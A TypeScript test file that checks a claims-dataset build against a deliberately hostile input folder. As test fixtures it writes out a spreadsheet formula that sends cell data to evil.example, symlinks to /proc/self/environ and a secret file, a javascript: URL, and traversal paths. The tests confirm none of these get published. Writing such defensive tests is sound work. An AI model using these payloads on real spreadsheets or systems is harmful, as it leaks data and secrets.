/**
 * What the build publishes under dist/data/: only regular files inside the
 * claims folder that sources.csv lists, only the rows `claims check` accepts;
 * spreadsheet-safe tables under the download links, the exact ones under
 * canonical/, and a check.json that fingerprints what the dashboard loads.
 */
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { loadDataset } from '../../src/app/data/load';
import { publishedFile, writePublishedFiles } from '../../src/build/publish';
import { loadSiteData } from '../../src/build/site-data';
import { checkDataset } from '../../src/model/check/dataset';
import { formatProblem, sortProblems } from '../../src/model/problem';
import { parseCsv } from '../../src/model/csv/parse';
import type { Problem } from '../../src/model/problem';
import { fingerprint } from '../../src/model/text/fingerprint';
import { buildSite } from '../support/build';
import { runCli } from '../support/cli';

const SECRET = 'CI_TOKEN=do-not-publish';
const FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")';

/** Every file under `dir`, as paths relative to it. */
function tree(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => relative(dir, join(e.parentPath, e.name)))
    .sort();
}

function everything(dir: string): string {
  return tree(dir)
    .map((f) => readFileSync(join(dir, f), 'utf8'))
    .join('\n');
}

/**
 * The shipped folder, made hostile: links, a folder and a stray text in
 * sources/, a source row check rejects (with its text), a claim row check
 * rejects, and a valid claim whose note is a formula.
 */
function hostileFolder(root: string): string {
  const dir = join(root, 'claims');
  cpSync('claims', dir, { recursive: true });
  const secret = join(root, 'secret.txt');
  writeFileSync(secret, `${SECRET}\n`);
  const sources = join(dir, 'sources');
  symlinkSync(secret, join(sources, 'env.txt'));
  symlinkSync('/proc/self/environ', join(sources, 'environ.txt'));
  symlinkSync(join(root, 'gone'), join(sources, 'dangling.txt'));
  mkdirSync(join(sources, 'folder.txt'));
  writeFileSync(join(sources, 'orphan.txt'), `${SECRET}\n`);
  // A source row check rejects (a javascript: url), with a text of its own.
  writeFileSync(join(sources, 'rejected-source.txt'), `Headline\n\n${SECRET}\n`);
  writeFileSync(
    join(dir, 'sources.csv'),
    `${readFileSync(join(dir, 'sources.csv'), 'utf8')}rejected-source,Headline,,,,javascript:alert(1),\n`,
  );
  const [header, first, ...rest] = readFileSync(join(dir, 'claims.csv'), 'utf8')
    .trimEnd()
    .split('\n');
  const noteAt = header!.split(',').indexOf('note');
  expect(noteAt).toBe(header!.split(',').length - 1);
  // The first claim, valid, with a formula for a note; a copy of it, rejected (a bad value).
  const withNote = `${first!.replace(/,[^,]*$/, '')},"${FORMULA.replace(/"/g, '""')}"`;
  const rejected = first!
    .replace(/^sabratha-strike-deaths-1,/, 'rejected-claim,')
    .replace(',,40,', ',,forty,');
  writeFileSync(join(dir, 'claims.csv'), [header, withNote, ...rest, rejected, ''].join('\n'));
  return dir;
}

describe('the data a build publishes from a hostile claims folder', () => {
  let root: string;
  let out: string;
  let problems: Problem[];

  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), 'claims-publish-'));
    const dir = hostileFolder(root);
    const data = loadSiteData(dir, root);
    problems = data.dataset.problems;
    out = join(root, 'dist-data');
    writePublishedFiles(out, data);
  });

  test('the folder is as hostile as meant: check rejects the row and the files', async () => {
    const check = await runCli('check', join(root, 'claims'));
    expect(check.code).toBe(1);
    for (const what of ['env.txt', 'environ.txt', 'dangling.txt', 'folder.txt', 'orphan.txt'])
      expect(check.out).toContain(`/sources/${what}:0:0:`);
    expect(check.out).toMatch(/claims\.csv:\d+:\d+: type-error: /);
    expect(check.out).toMatch(/sources\.csv:\d+:\d+: bad-url: /);
  });

  test('publishes the tables, the data package and the texts of valid sources, nothing else', () => {
    const shipped = readdirSync('claims/sources').sort();
    expect(tree(out)).toEqual(
      [
        'check.json',
        'claims.csv',
        'sources.csv',
        'measures.csv',
        'canonical/claims.csv',
        'canonical/datapackage.json',
        'canonical/sources.csv',
        'canonical/measures.csv',
        ...shipped.map((name) => `canonical/sources/${name}`),
      ].sort(),
    );
    for (const name of shipped) {
      expect(readFileSync(join(out, 'canonical/sources', name), 'utf8')).toBe(
        readFileSync(join('claims/sources', name), 'utf8'),
      );
    }
  });

  test('nothing from outside the folder, from an unlisted text or a rejected row is published', () => {
    expect(everything(out)).not.toContain(SECRET);
    // check.json's list of what was left out names them; no table or text does.
    const all = everything(out).replace(/"excluded":.*$/m, '');
    expect(all).not.toContain('rejected-claim');
    expect(all).not.toContain('rejected-source');
    expect(all).not.toContain('javascript:');
  });

  test('the download tables show every formula as text; the canonical one keeps it exact', () => {
    const download = readFileSync(join(out, 'claims.csv'), 'utf8');
    expect(download.startsWith('\uFEFF')).toBe(true);
    const cells = parseCsv(download.slice(1)).rows.flatMap((r) => r.values);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter((c) => /^[=+@]/.test(c))).toEqual([]);

    const canonical = parseCsv(readFileSync(join(out, 'canonical/claims.csv'), 'utf8')).rows;
    expect(canonical.flatMap((r) => r.values)).toContain(FORMULA);
    expect(canonical.length - 1).toBe(parseCsv(download.slice(1)).rows.length - 1);
  });

  test('the canonical tables check clean, and check.json fingerprints them and lists what was left out', () => {
    const claims = readFileSync(join(out, 'canonical/claims.csv'));
    const sources = readFileSync(join(out, 'canonical/sources.csv'));
    const measures = readFileSync(join(out, 'canonical/measures.csv'));
    const texts = new Map(
      readdirSync(join(out, 'canonical/sources')).map((name) => [
        name.slice(0, -4),
        readFileSync(join(out, 'canonical/sources', name)),
      ]),
    );
    const again = checkDataset({ dir: 'claims', claims, sources, measures, texts });
    expect(again.problems).toEqual([]);
    const summary = JSON.parse(readFileSync(join(out, 'check.json'), 'utf8')) as {
      fingerprint: string;
      problems: Problem[];
      excluded: Problem[];
      clean: boolean;
    };
    expect(summary.fingerprint).toBe(fingerprint(claims, sources));
    expect(summary.problems).toEqual([]);
    // The tables hold only rows the check accepted: the dashboard need not check them again.
    expect(summary.clean).toBe(true);
    expect(summary.excluded.map(formatProblem)).toEqual(problems.map(formatProblem));
  });

  test('the dev server serves the same files and nothing else', () => {
    const data = loadSiteData(join(root, 'claims'), root);
    expect(Buffer.from(publishedFile(data, 'claims.csv')!).toString()).toBe(
      readFileSync(join(out, 'claims.csv'), 'utf8'),
    );
    for (const path of [
      'canonical/sources/env.txt',
      'canonical/sources/orphan.txt',
      'canonical/sources/rejected-source.txt',
      'sources/env.txt',
      '../secret.txt',
      'canonical/../../secret.txt',
    ])
      expect(publishedFile(data, path)).toBeUndefined();
  });

  /**
   * What the dashboard loads from the published files, some of them changed
   * after the build (path under data/ → contents), and which it fetched.
   */
  async function dashboardLoad(changed: Record<string, string> = {}) {
    const fetched: string[] = [];
    vi.stubGlobal('fetch', async (url: string) => {
      fetched.push(url);
      const path = url.replace(/^data\//, '');
      try {
        return new Response(changed[path] ?? readFileSync(join(out, path)));
      } catch {
        return new Response('not found', { status: 404 });
      }
    });
    try {
      return { loaded: await loadDataset(), fetched: fetched.sort() };
    } finally {
      vi.unstubAllGlobals();
    }
  }

  const TABLES_ONLY = [
    'data/canonical/claims.csv',
    'data/canonical/measures.csv',
    'data/canonical/sources.csv',
    'data/check.json',
  ];

  /** The published files, `changed` among them, checked in full, every text read. */
  function checkedInFull(changed: Record<string, string>) {
    const file = (path: string) => changed[path] ?? readFileSync(join(out, path));
    const texts = new Map(
      readdirSync(join(out, 'canonical/sources')).map((name) => [
        name.slice(0, -4),
        readFileSync(join(out, 'canonical/sources', name)),
      ]),
    );
    return checkDataset({
      dir: 'claims',
      claims: file('canonical/claims.csv'),
      sources: file('canonical/sources.csv'),
      measures: file('canonical/measures.csv'),
      texts,
    });
  }

  test('the dashboard loads the canonical tables and shows what the build left out', async () => {
    const data = loadSiteData(join(root, 'claims'), root);
    const { loaded, fetched } = await dashboardLoad();
    expect(loaded.claims.map((c) => c.id)).toEqual(data.dataset.claims.map((c) => c.id));
    expect(loaded.sources).toEqual(data.dataset.sources);
    expect(loaded.problems.map(formatProblem)).toEqual(problems.map(formatProblem));
    // Trusted: no text was fetched to verify the citations.
    expect(fetched).toEqual(TABLES_ONLY);
  });

  test('a claims.csv changed after the build is not trusted: its rows are checked against the texts', async () => {
    const claims = readFileSync(join(out, 'canonical/claims.csv'), 'utf8');
    // A figure its quote does not state, in an otherwise valid row.
    const changed = { 'canonical/claims.csv': claims.replace(',,40,at_most,', ',,41,at_most,') };
    expect(changed['canonical/claims.csv']).not.toBe(claims);
    const { loaded, fetched } = await dashboardLoad(changed);
    expect(fetched.filter((f) => f.startsWith('data/canonical/sources/')).length).toBeGreaterThan(
      0,
    );
    const full = checkedInFull(changed);
    expect(full.problems.map((p) => p.code)).toEqual(['value-mismatch']);
    expect(loaded.claims).toEqual(full.claims);
    // check.json is not of these files: what it says the build left out is not shown either.
    expect(loaded.problems).toEqual(full.problems);
  });

  test('a measures.csv changed after the build (not fingerprinted) is checked: the claims it breaks are left out', async () => {
    const measures = readFileSync(join(out, 'canonical/measures.csv'), 'utf8');
    const changed = {
      'canonical/measures.csv': measures.replace(',casualties,people,', ',casualties,vehicles,'),
    };
    expect(changed['canonical/measures.csv']).not.toBe(measures);
    const { loaded, fetched } = await dashboardLoad(changed);
    expect(fetched).toEqual(TABLES_ONLY);
    const full = checkedInFull(changed);
    expect(full.problems.map((p) => p.code)).toContain('constraint-error');
    expect(loaded.claims).toEqual(full.claims);
    expect(loaded.claims.length).toBeLessThan(checkedInFull({}).claims.length);
    expect(loaded.measures).toEqual(full.measures);
    expect(loaded.problems.map(formatProblem)).toEqual(
      sortProblems([...problems, ...full.problems]).map(formatProblem),
    );
  });

  test('a text changed or swapped for a link after the check is not published', () => {
    const dir = join(root, 'claims');
    const data = loadSiteData(dir, root);
    const id = data.dataset.sources[0]!.id;
    const path = join(dir, 'sources', `${id}.txt`);
    const text = readFileSync(path);
    writeFileSync(path, `${SECRET}\n`);
    expect(() => publishedFile(data, `canonical/sources/${id}.txt`)).toThrow(
      `${path} changed while the site was built: build again`,
    );
    rmSync(path);
    symlinkSync(join(root, 'secret.txt'), path);
    expect(() => publishedFile(data, `canonical/sources/${id}.txt`)).toThrow(/changed while/);
    rmSync(path);
    writeFileSync(path, text);
    expect(Buffer.from(publishedFile(data, `canonical/sources/${id}.txt`)!)).toEqual(text);
  });

  afterAll(() => rmSync(root, { recursive: true, force: true }));
});

describe('a build of a folder that is outside the project', () => {
  test('is refused in one line', () => {
    const root = mkdtempSync(join(tmpdir(), 'claims-outside-'));
    cpSync('claims', join(root, 'claims'), { recursive: true });
    expect(() => loadSiteData(join(root, 'claims'))).toThrow(
      /claims is .*, outside the project \(.*\): the build reads only data inside it/,
    );
  });
});

describe('npm run build on a claims folder with a link to the environment', () => {
  // `ln -s /proc/self/environ claims/sources/env.txt && npm run build`, in a
  // copy of the folder inside the project (the build reads nothing outside it).
  const cache = join('node_modules', '.cache', 'claims-tests');
  let dir: string;
  let out: string;

  beforeAll(() => {
    mkdirSync(cache, { recursive: true });
    dir = mkdtempSync(join(cache, 'hostile-'));
    cpSync('claims', join(dir, 'claims'), { recursive: true });
    symlinkSync('/proc/self/environ', join(dir, 'claims', 'sources', 'env.txt'));
    out = mkdtempSync(join(tmpdir(), 'claims-dist-'));
  });
  afterAll(() => {
    rmSync(dir, { recursive: true, force: true });
    rmSync(out, { recursive: true, force: true });
  });

  test('publishes no environment, says what it left out, and still builds', () => {
    const build = buildSite(out, { CLAIMS_DIR: join(dir, 'claims'), CANARY_SECRET: SECRET });
    expect(build.status).toBe(0);
    expect(build.stdout + build.stderr).toContain(
      'sources/env.txt:0:0: not-a-regular-file: is a symbolic link (to /proc/self/environ)',
    );
    expect(tree(out).filter((f) => f.includes('env'))).toEqual([]);
    for (const file of tree(out)) {
      expect(readFileSync(join(out, file)).includes(SECRET), file).toBe(false);
    }
  }, 300_000);
});
